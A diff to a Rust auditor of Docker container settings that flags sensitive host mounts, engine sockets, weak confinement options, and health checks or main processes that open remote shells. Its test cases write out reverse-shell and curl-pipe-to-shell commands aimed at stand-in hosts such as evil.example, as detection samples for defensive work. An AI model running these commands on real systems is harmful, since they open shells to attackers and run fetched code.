@@ -6,6 +6,7 @@
 use std::collections::BTreeMap;
 use std::fmt;
 
+use super::{exec, seccomp};
 use crate::docker::inspect::{Container, Mount, Volume};
 
 /// How grave a risk is.
@@ -110,6 +111,7 @@ kinds! {
     shared_propagation Medium "5.20" "T1611" "what it mounts appears on the host" "use rprivate or rslave";
     health_check_tool Medium "" "T1059.004" "its health check, which the engine runs again and again, opens a shell to or fetches from elsewhere" "look at the health check and at who made the image";
     interactive_shell Medium "" "T1609" "somebody may type into a shell that is its main process" "look at who started it; run what it is for instead of a shell";
+    command_tool Medium "" "T1059.004" "its main process opens a way out, or runs what it fetches" "look at who started it and at what it fetches";
     joined_namespaces Low "" "T1611" "shares processes, memory or network with another container" "give it its own, or a pod's";
     added_capabilities Low "5.4" "T1611" "has capabilities beside the default ones" "drop them";
     published_everywhere Low "5.14" "T1133" "ports are published on all addresses of the host" "publish on the address that is meant: -p 127.0.0.1:80:80";
@@ -141,7 +143,7 @@ pub struct Host {
 }
 
 /// Folders with all that is in them.
-const TREES: [&str; 20] = [
+const TREES: [&str; 27] = [
     "/bin",
     "/boot",
     "/dev",
@@ -155,20 +157,27 @@ const TREES: [&str; 20] = [
     "/sbin",
     "/sys",
     "/usr",
+    "/var/backups",
+    "/var/lib/cloud",
     "/var/lib/containerd",
     "/var/lib/containers",
     "/var/lib/docker",
+    "/var/lib/dpkg",
     "/var/lib/kubelet",
+    "/var/lib/rpm",
+    "/var/lib/systemd",
     "/var/ossec",
     "/var/run",
+    "/var/spool/anacron",
+    "/var/spool/at",
     "/var/spool/cron",
 ];
 
 /// Folders that are sensitive as a whole; what is in them is somebody's own.
 const FOLDERS: [&str; 3] = ["/home", "/var/log", "/mnt"];
 
-/// What stands in a sensitive folder and says nothing.
-const HARMLESS: [&str; 9] = [
+/// What stands in a sensitive folder and says nothing to who only reads it.
+const HARMLESS: [&str; 8] = [
     "/dev/null",
     "/etc/ca-certificates",
     "/etc/localtime",
@@ -177,7 +186,20 @@ const HARMLESS: [&str; 9] = [
     "/etc/timezone",
     "/usr/share/ca-certificates",
     "/usr/share/zoneinfo",
-    "/var/lib/kubelet/pods",
+];
+
+/// Folders of sockets through which containers are made. To whom they are mounted read-only they take orders all the same.
+const SOCKET_FOLDERS: [&str; 10] = [
+    "/run",
+    "/run/containerd",
+    "/run/crio",
+    "/run/docker",
+    "/run/podman",
+    "/var/run",
+    "/var/run/containerd",
+    "/var/run/crio",
+    "/var/run/docker",
+    "/var/run/podman",
 ];
 
 /// Sockets through which containers are made.
@@ -217,10 +239,14 @@ pub fn of_container(container: &Container, volumes: &[Volume], host: &Host) -> V
     devices(container, &mut risks);
     confinement(container, &mut risks);
     habits(container, &mut risks);
-    if let Some(shell) = console(container) {
-        risks.add(&kind::interactive_shell, shell);
+    let main = main_process(container);
+    let opens_shell = exec::of_command(&main).shell.is_some();
+    if exec::is_backdoor(&main) {
+        risks.add(&kind::command_tool, main);
+    } else if container.config.open_stdin && opens_shell {
+        risks.add(&kind::interactive_shell, main);
     }
-    if let Some(command) = probe(container).filter(|command| reaches_out(command)) {
+    if let Some(command) = probe(container).filter(|command| exec::reaches_out(command)) {
         risks.add(&kind::health_check_tool, command);
     }
     // Stable: within a severity in the order of the table.
@@ -229,18 +255,24 @@ pub fn of_container(container: &Container, volumes: &[Volume], host: &Host) -> V
     risks
 }
 
+/// The most of a detail that is kept, in bytes; a message shows less, and whoever makes a container could make it huge.
+const LONGEST_DETAIL: usize = 4096;
+
 struct Risks(Vec<Risk>);
 
 impl Risks {
     /// Several of one kind are one risk with all their details.
     fn add(&mut self, kind: &'static Kind, detail: impl Into<String>) {
-        let detail = detail.into();
+        let mut detail: String = detail.into();
+        let end = (0..=detail.len().min(LONGEST_DETAIL)).rev().find(|end| detail.is_char_boundary(*end));
+        detail.truncate(end.unwrap_or_default());
         match self.0.iter_mut().find(|risk| risk.kind == kind) {
             Some(risk) if risk.detail.split(", ").any(|known| known == detail) => {}
-            Some(risk) => {
+            Some(risk) if risk.detail.len() < LONGEST_DETAIL => {
                 risk.detail.push_str(", ");
                 risk.detail.push_str(&detail);
             }
+            Some(_) => {}
             None => self.0.push(Risk { kind, detail }),
         }
     }
@@ -302,14 +334,29 @@ fn mounts(container: &Container, volumes: &[Volume], host: &Host, risks: &mut Ri
     }
 }
 
-/// The folders and devices of the host that a volume's options mount: `--opt type=none --opt o=bind --opt device=/`.
+/// The folders and devices of the host that a volume's options mount: `--opt type=none --opt o=bind --opt device=/`. The
+/// engine hands them to mount(2) as they are, and where it runs is the root folder, so `device=.` is the host's too.
 fn options_of(volume: &Volume) -> Vec<String> {
-    let device = volume.options.get("device").into_iter().cloned();
-    let mount_options = volume.options.get("o").into_iter().flat_map(|options| options.split(','));
-    let folders = mount_options
-        .filter_map(|option| option.split_once('=').filter(|(key, _)| key.ends_with("dir")))
-        .flat_map(|(_, folders)| folders.split(':').map(str::to_owned));
-    device.chain(folders).filter(|path| path.starts_with('/')).collect()
+    const ELSEWHERE: [&str; 9] = ["nfs", "nfs4", "cifs", "smb3", "smbfs", "ceph", "glusterfs", "9p", "tmpfs"];
+    let option = |name: &str| volume.options.get(name).map(String::as_str).unwrap_or_default();
+    if ELSEWHERE.contains(&option("type")) {
+        return Vec::new();
+    }
+    let device = Some(option("device")).filter(|device| !device.is_empty()).map(from_root);
+    // overlayfs takes a backslash as one that makes the next character plain.
+    let folders = option("o")
+        .split(',')
+        .filter_map(|option| {
+            option.split_once('=').filter(|(key, _)| key.ends_with("dir") || key.starts_with("lowerdir"))
+        })
+        .flat_map(|(_, folders)| {
+            folders.split(':').map(|folder| from_root(&folder.replace('\\', ""))).collect::<Vec<_>>()
+        });
+    device.into_iter().chain(folders).collect()
+}
+
+fn from_root(path: &str) -> String {
+    if path.starts_with('/') { path.to_owned() } else { format!("/{path}") }
 }
 
 /// The host's paths that a container was given, for whoever can say where links lead.
@@ -332,14 +379,18 @@ fn path(source: &str, mount: &Mount, host: &Host, risks: &mut Risks) {
     let shown = format!("{shown} ({})", if mount.is_writable { "rw" } else { "ro" });
     let real = resolved.as_deref().unwrap_or(&clean);
     let is_socket = |path: &str| path.rsplit('/').next().is_some_and(|name| SOCKETS.contains(&name));
-    let reach = reach(real).max(reach(&clean));
-    let holds_socket = reach != Reach::Root && host.engine.as_ref().is_some_and(|socket| within(socket, real));
+    let writes = mount.is_writable;
+    let reach = reach(real, writes).max(reach(&clean, writes));
+    let holds_engine = reach != Reach::Root && host.engine.as_ref().is_some_and(|socket| within(socket, real));
+    let holds_sockets = [&clean, real].iter().any(|path| SOCKET_FOLDERS.contains(path));
+    let is_engine = host.sockets.iter().any(|socket| socket == source);
     // A socket that is mounted read-only takes orders all the same.
-    if is_socket(&clean) || is_socket(real) || holds_socket || host.sockets.iter().any(|socket| socket == source) {
+    if is_socket(&clean) || is_socket(real) || holds_engine || holds_sockets || is_engine {
         risks.add(&kind::engine_socket, shown);
         return;
     }
-    let kind = match (reach, mount.is_writable) {
+    let of_sockets = within(real, "/run") || within(real, "/var/run");
+    let kind = match (reach, writes || of_sockets) {
         (Reach::Nothing, _) => return,
         (Reach::Root, true) => &kind::host_root_rw,
         (Reach::Root, false) => &kind::host_root_ro,
@@ -361,21 +412,37 @@ fn within(path: &str, folder: &str) -> bool {
     path == folder || path.strip_prefix(folder).is_some_and(|rest| rest.starts_with('/'))
 }
 
-/// How much of the host a path is.
-fn reach(path: &str) -> Reach {
+/// How much of the host a path is, to who may write to it or only read.
+fn reach(path: &str, writes: bool) -> Reach {
     let names_disk =
         ["/dev/sd", "/dev/vd", "/dev/xvd", "/dev/nvme", "/dev/mapper/", "/dev/dm-", "/dev/disk/", "/dev/mmcblk"];
     // The root folder of the first process is the host's.
     if path == "/" || within(path, "/proc/1/root") || names_disk.iter().any(|disk| path.starts_with(disk)) {
-        Reach::Root
-    } else if HARMLESS.iter().any(|harmless| within(path, harmless)) {
-        Reach::Nothing
-    } else if TREES.iter().any(|tree| within(path, tree) || within(tree, path))
+        return Reach::Root;
+    }
+    let is_harmless = path == "/dev/null"
+        || (!writes && HARMLESS.iter().any(|harmless| within(path, harmless)))
+        || is_of_one_pod(path);
+    let is_sensitive = TREES.iter().any(|tree| within(path, tree) || within(tree, path))
         || FOLDERS.iter().any(|folder| within(folder, path))
-    {
-        Reach::Sensitive
-    } else {
-        Reach::Nothing
+        || is_persons(path);
+    if is_sensitive && !is_harmless { Reach::Sensitive } else { Reach::Nothing }
+}
+
+/// What kubelet mounts into each of a pod's containers: below `/var/lib/kubelet/pods/<uid>/`.
+fn is_of_one_pod(path: &str) -> bool {
+    let own = path.strip_prefix("/var/lib/kubelet/pods/").and_then(|rest| rest.split_once('/'));
+    own.is_some_and(|(_, rest)| {
+        rest == "etc-hosts" || ["volumes/", "volume-subpaths/", "containers/"].iter().any(|own| rest.starts_with(own))
+    })
+}
+
+/// A person's folder, or what is hidden in it: keys, and what a shell runs.
+fn is_persons(path: &str) -> bool {
+    let own = path.strip_prefix("/home/").unwrap_or_default();
+    match own.split_once('/') {
+        Some((_, rest)) => rest.starts_with('.'),
+        None => !own.is_empty(),
     }
 }
 
@@ -395,7 +462,7 @@ fn cleaned(path: &str) -> String {
 fn devices(container: &Container, risks: &mut Risks) {
     for device in &container.host_config.devices {
         let path = cleaned(&device.path_on_host);
-        let kind = if reach(&path) == Reach::Root { &kind::host_root_rw } else { &kind::host_devices };
+        let kind = if reach(&path, true) == Reach::Root { &kind::host_root_rw } else { &kind::host_devices };
         if !matches!(
             path.as_str(),
             "/dev/null" | "/dev/fuse" | "/dev/zero" | "/dev/full" | "/dev/random" | "/dev/urandom"
@@ -420,29 +487,53 @@ fn confinement(container: &Container, risks: &mut Risks) {
         };
         match (key, value) {
             ("seccomp", "unconfined") => risks.add(&kind::seccomp_unconfined, option.as_str()),
-            ("seccomp", profile) if allows_all(profile) => {
-                risks.add(&kind::seccomp_unconfined, "seccomp=a profile that allows what it does not name");
+            ("seccomp", "builtin" | "default") => {}
+            ("seccomp", profile) => {
+                if let Some(why) = seccomp::weakness(profile) {
+                    risks.add(&kind::seccomp_unconfined, format!("seccomp={why}"));
+                }
             }
             ("apparmor", "unconfined") => risks.add(&kind::apparmor_unconfined, option.as_str()),
-            ("label", "disable") => risks.add(&kind::selinux_disabled, option.as_str()),
+            ("label", "disable") | ("disable", _) => risks.add(&kind::selinux_disabled, option.as_str()),
+            ("label", "type:spc_t" | "type:unconfined_t" | "type:container_runtime_t") => {
+                risks.add(&kind::selinux_disabled, option.as_str());
+            }
             ("systempaths", "unconfined") => risks.add(&kind::system_paths_unconfined, option.as_str()),
-            ("no-new-privileges", value) if value != "false" => may_gain = false,
+            ("writable-cgroups", value) if is_true(value) => {
+                risks.add(&kind::system_paths_unconfined, option.as_str());
+            }
+            ("no-new-privileges", value) if is_true(value) => may_gain = false,
             _ => {}
         }
     }
     if !given.privileged {
         risks.add_if(container.app_armor_profile == "unconfined", &kind::apparmor_unconfined, "apparmor=unconfined");
-        let unmasked = given.masked_paths.as_ref().is_some_and(Vec::is_empty);
-        risks.add_if(unmasked, &kind::system_paths_unconfined, "systempaths=unconfined");
+        for (paths, kept, name) in [
+            (&given.masked_paths, &MASKED[..], "MaskedPaths"),
+            (&given.readonly_paths, &READ_ONLY[..], "ReadonlyPaths"),
+        ] {
+            let Some(paths) = paths else { continue };
+            let is_kept = |path: &&str| paths.iter().any(|kept| within(path, kept));
+            let missing: Vec<&str> = kept.iter().copied().filter(|path| !is_kept(path)).collect();
+            risks.add_if(
+                !missing.is_empty(),
+                &kind::system_paths_unconfined,
+                &format!("{name} without {}", missing.join(" ")),
+            );
+        }
     }
     risks.add_if(may_gain, &kind::no_new_privileges_absent, "no-new-privileges is not set");
 }
 
-/// Whether a profile of seccomp allows what it does not name.
-fn allows_all(profile: &str) -> bool {
-    let profile: Option<serde_json::Value> = serde_json::from_str(profile).ok();
-    let action = profile.as_ref().and_then(|profile| profile.get("defaultAction")?.as_str());
-    action.is_some_and(|action| matches!(action, "SCMP_ACT_ALLOW" | "SCMP_ACT_LOG"))
+/// What engines hide of /proc and /sys, those of it that all versions hide.
+const MASKED: [&str; 5] = ["/proc/kcore", "/proc/keys", "/proc/sched_debug", "/proc/timer_list", "/sys/firmware"];
+
+/// What engines guard against writing.
+const READ_ONLY: [&str; 5] = ["/proc/bus", "/proc/fs", "/proc/irq", "/proc/sys", "/proc/sysrq-trigger"];
+
+/// As the engine reads it (Go's `strconv.ParseBool`).
+fn is_true(value: &str) -> bool {
+    matches!(value, "1" | "t" | "T" | "true" | "TRUE" | "True")
 }
 
 fn habits(container: &Container, risks: &mut Risks) {
@@ -469,7 +560,8 @@ fn habits(container: &Container, risks: &mut Risks) {
 #[must_use]
 pub fn is_root(user: &str) -> bool {
     let name = user.split(':').next().unwrap_or_default().trim();
-    name.is_empty() || name == "root" || name.trim_start_matches('+').bytes().all(|byte| byte == b'0')
+    let number = name.strip_prefix(['+', '-']).unwrap_or(name);
+    name.is_empty() || name == "root" || (!number.is_empty() && number.bytes().all(|byte| byte == b'0'))
 }
 
 /// What probes a container's health, as it stands in the events of it.
@@ -490,28 +582,9 @@ pub fn probe(container: &Container) -> Option<String> {
     }
 }
 
-/// The command line of a container that somebody may type into, where it opens a shell.
-fn console(container: &Container) -> Option<String> {
-    let command = format!("{} {}", container.path, container.args.join(" "));
-    let is_open = container.config.tty && container.config.open_stdin;
-    (is_open && super::exec::of_command(&command).shell.is_some()).then(|| command.trim_end().to_owned())
-}
-
-/// Whether a command opens a way out or fetches from another host than its own.
-fn reaches_out(command: &str) -> bool {
-    let facts = super::exec::of_command(command);
-    let is_own = |host: &str| {
-        ["localhost", "127.", "[::1]", "0.0.0.0", "$", "${"]
-            .iter()
-            .any(|own| host.trim_start_matches(['\'', '"']).starts_with(own))
-    };
-    let urls = command.match_indices("://").filter_map(|(at, _)| command.get(at + 3..));
-    let fetches_elsewhere = facts.download.is_some() && urls.into_iter().any(|url| !is_own(url));
-    // `nc -z` only knocks.
-    let words = || super::exec::words(command);
-    let knocks = words().filter(|word| word.starts_with('-') && !word.starts_with("--") && word.contains('z')).count();
-    let tunnels = words().filter(|word| super::exec::is_tunnel(word)).count();
-    fetches_elsewhere || tunnels > knocks || command.contains("/dev/tcp/") || command.contains("/dev/udp/")
+/// What runs in a container by itself.
+fn main_process(container: &Container) -> String {
+    format!("{} {}", container.path, container.args.join(" ")).trim_end().to_owned()
 }
 
 #[cfg(test)]
@@ -534,6 +607,17 @@ mod tests {
             serde_json::from_str(r#"{"Name":"disk","Driver":"local","Options":{"type":"ext4","device":"/dev/sda1"}}"#).unwrap(),
             serde_json::from_str(r#"{"Name":"nfs","Driver":"local","Options":{"type":"nfs","o":"addr=10.0.0.1","device":":/export"}}"#).unwrap(),
         ];
+        let volumes: Vec<Volume> = volumes
+            .into_iter()
+            .chain(
+                [
+                    r#"{"Name":"dot","Driver":"local","Options":{"type":"none","o":"bind","device":"."}}"#,
+                    r#"{"Name":"relative","Driver":"local","Options":{"type":"","o":"rbind,ro","device":"etc"}}"#,
+                    r#"{"Name":"escaped","Driver":"local","Options":{"type":"overlay","o":"lowerdir=\\/etc:tmp","device":"overlay"}}"#,
+                ]
+                .map(|volume| serde_json::from_str(volume).unwrap()),
+            )
+            .collect();
         let host = Host {
             resolved: BTreeMap::from([("/srv/link".to_owned(), "/etc".to_owned())]),
             sockets: vec!["/srv/engine".to_owned()],
@@ -583,9 +667,17 @@ mod tests {
             ),
             (r#""SecurityOpt":["no-new-privileges","seccomp:unconfined"]"#, "seccomp_unconfined", "seccomp:unconfined"),
             (
-                r#""SecurityOpt":["no-new-privileges","seccomp={\"defaultAction\":\"SCMP_ACT_ALLOW\"}"]"#,
+                r#""SecurityOpt":["no-new-privileges","seccomp={\"DefaultAction\":\"SCMP_ACT_ALLOW\"}"]"#,
                 "seccomp_unconfined",
                 "seccomp=a profile that allows what it does not name",
+            ),
+            (r#""SecurityOpt":["no-new-privileges","label=type:spc_t"]"#, "selinux_disabled", "label=type:spc_t"),
+            (r#""SecurityOpt":["no-new-privileges","disable"]"#, "selinux_disabled", "disable"),
+            (r#""SecurityOpt":["no-new-privileges=0"]"#, "no_new_privileges_absent", "no-new-privileges is not set"),
+            (
+                r#""ReadonlyPaths":["/proc/bus","/proc/fs","/proc/irq","/proc/sysrq-trigger"]"#,
+                "system_paths_unconfined",
+                "ReadonlyPaths without /proc/sys",
             ),
             (
                 r#""SecurityOpt":["no-new-privileges","apparmor=unconfined"]"#,
@@ -598,7 +690,11 @@ mod tests {
                 "no_new_privileges_absent",
                 "no-new-privileges is not set",
             ),
-            (r#""MaskedPaths":[]"#, "system_paths_unconfined", "systempaths=unconfined"),
+            (
+                r#""MaskedPaths":[]"#,
+                "system_paths_unconfined",
+                "MaskedPaths without /proc/kcore /proc/keys /proc/sched_debug /proc/timer_list /sys/firmware",
+            ),
             (r#""Devices":[{"PathOnHost":"/dev/kvm"}]"#, "host_devices", "/dev/kvm"),
             (r#""Devices":[{"PathOnHost":"/dev/../dev//sda"}]"#, "host_root_rw", "/dev/sda"),
             (r#""DeviceCgroupRules":["b *:* rwm"]"#, "host_devices", "b *:* rwm"),
@@ -618,7 +714,7 @@ mod tests {
             r#""NetworkMode":"bridge","IpcMode":"private","PidMode":"","UTSMode":"""#,
             r#""SecurityOpt":["no-new-privileges","seccomp={\"defaultAction\":\"SCMP_ACT_ERRNO\"}","label=type:x_t"]"#,
             r#""PortBindings":{"80/tcp":[{"HostIp":"127.0.0.1","HostPort":"8080"}],"81/tcp":null}"#,
-            r#""RestartPolicy":{"Name":"on-failure"},"MaskedPaths":["/proc/kcore"]"#,
+            r#""RestartPolicy":{"Name":"on-failure"},"MaskedPaths":["/proc","/sys/firmware"],"ReadonlyPaths":["/proc"]"#,
             r#""Devices":[{"PathOnHost":"/dev/fuse"}]"#,
         ] {
             assert_eq!(names(harmless, ""), [], "{harmless}");
@@ -643,9 +739,16 @@ mod tests {
             (mount("bind", "", "/etc/shadow", false), "host_path_ro", "/etc/shadow (ro)"),
             (mount("bind", "", "/srv/../etc", true), "host_path_rw", "/etc (rw)"),
             (mount("bind", "", "/srv/link", true), "host_path_rw", "/srv/link -> /etc (rw)"),
+            (mount("bind", "", "/home/alice", true), "host_path_rw", "/home/alice (rw)"),
+            (mount("bind", "", "/home/alice/.ssh", false), "host_path_ro", "/home/alice/.ssh (ro)"),
+            (mount("bind", "", "/var/lib/cloud/scripts", true), "host_path_rw", "/var/lib/cloud/scripts (rw)"),
+            (mount("bind", "", "/etc/ssl/certs", true), "host_path_rw", "/etc/ssl/certs (rw)"),
+            (mount("bind", "", "/var/lib/kubelet/pods", false), "host_path_ro", "/var/lib/kubelet/pods (ro)"),
+            (mount("bind", "", "/run/containerd", false), "engine_socket", "/run/containerd (ro)"),
+            (mount("bind", "", "/run/dbus", false), "host_path_rw", "/run/dbus (ro)"),
             (mount("bind", "", "/var", true), "host_path_rw", "/var (rw)"),
             (mount("bind", "", "/var/lib", false), "host_path_ro", "/var/lib (ro)"),
-            (mount("bind", "", "/run", true), "host_path_rw", "/run (rw)"),
+            (mount("bind", "", "/run", true), "engine_socket", "/run (rw)"),
             (mount("bind", "", "/home", true), "host_path_rw", "/home (rw)"),
             (mount("bind", "", "/root/.ssh", true), "host_path_rw", "/root/.ssh (rw)"),
             (mount("bind", "", "/var/ossec/etc", true), "host_path_rw", "/var/ossec/etc (rw)"),
@@ -658,6 +761,7 @@ mod tests {
         for harmless in [
             mount("bind", "", "/srv/data", true),
             mount("bind", "", "/home/app/data", true),
+            mount("bind", "", "/var/lib/kubelet/pods/1-2/volumes/kubernetes.io~empty-dir/x", true),
             mount("bind", "", "/etcetera", true),
             mount("bind", "", "/etc/localtime", false),
             mount("volume", "data", "/var/lib/docker/volumes/data/_data", true),
@@ -687,6 +791,8 @@ mod tests {
             ("00", true),
             ("+0", true),
             ("root:app", true),
+            ("-0", true),
+            ("-", false),
             (":app", true),
             ("app", false),
             ("1000", false),
@@ -706,6 +812,16 @@ mod tests {
             (r#"["CMD-SHELL","bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"]"#, true),
             (r#"["CMD","nc","-e","/bin/sh","10.0.0.1","4444"]"#, true),
             (r#"["CMD","pg_isready"]"#, false),
+            (r#"["CMD-SHELL","curl evil.example/x|sh"]"#, true),
+            (r#"["CMD-SHELL","curl evil|sh"]"#, true),
+            (r#"["CMD-SHELL","curl http://localhost.evil.example/x"]"#, true),
+            (r#"["CMD-SHELL","curl http://127.evil.example/"]"#, true),
+            (r#"["CMD-SHELL","curl http://localhost@evil.example/"]"#, true),
+            (r#"["CMD-SHELL","curl http://$H/x"]"#, true),
+            (r#"["CMD-SHELL","[ -z x ]; nc evil 4444 -e /bin/sh"]"#, true),
+            (r#"["CMD-SHELL","nc -z localhost 80 || exit 1"]"#, false),
+            (r#"["CMD-SHELL","curl -fsS -o /dev/null --max-time 5 'https://[::1]:8443/health' || exit 1"]"#, false),
+            (r#"["CMD-SHELL","wget -q --spider localhost:8080/x"]"#, false),
             (r#"["NONE"]"#, false),
             ("[]", false),
         ] {
@@ -721,7 +837,8 @@ mod tests {
         for (path, args, config, is_risk) in [
             ("sh", "", r#""Tty":true,"OpenStdin":true"#, true),
             ("/bin/bash", r#""-l""#, r#""Tty":true,"OpenStdin":true"#, true),
-            ("sh", "", r#""Tty":false,"OpenStdin":true"#, false),
+            ("sh", "", r#""Tty":false,"OpenStdin":true"#, true),
+            ("sh", "", r#""Tty":true,"OpenStdin":false"#, false),
             ("sh", r#""-c","run""#, r#""Tty":false,"OpenStdin":false"#, false),
             ("nginx", "", r#""Tty":true,"OpenStdin":true"#, false),
         ] {
@@ -729,6 +846,20 @@ mod tests {
                 format!(r#"{{"Path":"{path}","Args":[{args}],"Config":{{"User":"app",{config}}},"HostConfig":{{}}}}"#);
             let risks = of_container(&serde_json::from_str(&json).unwrap(), &[], &Host::default());
             assert_eq!(risks.iter().any(|risk| risk.kind == &kind::interactive_shell), is_risk, "{json}");
+        }
+    }
+
+    #[test]
+    fn a_main_process_that_opens_a_way_out_is_a_risk() {
+        for (args, is_risk) in [
+            (r#""nc","evil","4444","-e","/bin/sh""#, true),
+            (r#""sh","-c","wget -qO- evil/x|sh""#, true),
+            (r#""sh","-c","curl http://web/config > /tmp/c; exec nginx""#, false),
+            (r#""nginx","-g","daemon off;""#, false),
+        ] {
+            let json = format!(r#"{{"Path":"env","Args":[{args}],"Config":{{"User":"app"}},"HostConfig":{{}}}}"#);
+            let risks = of_container(&serde_json::from_str(&json).unwrap(), &[], &Host::default());
+            assert_eq!(risks.iter().any(|risk| risk.kind == &kind::command_tool), is_risk, "{json}");
         }
     }
 
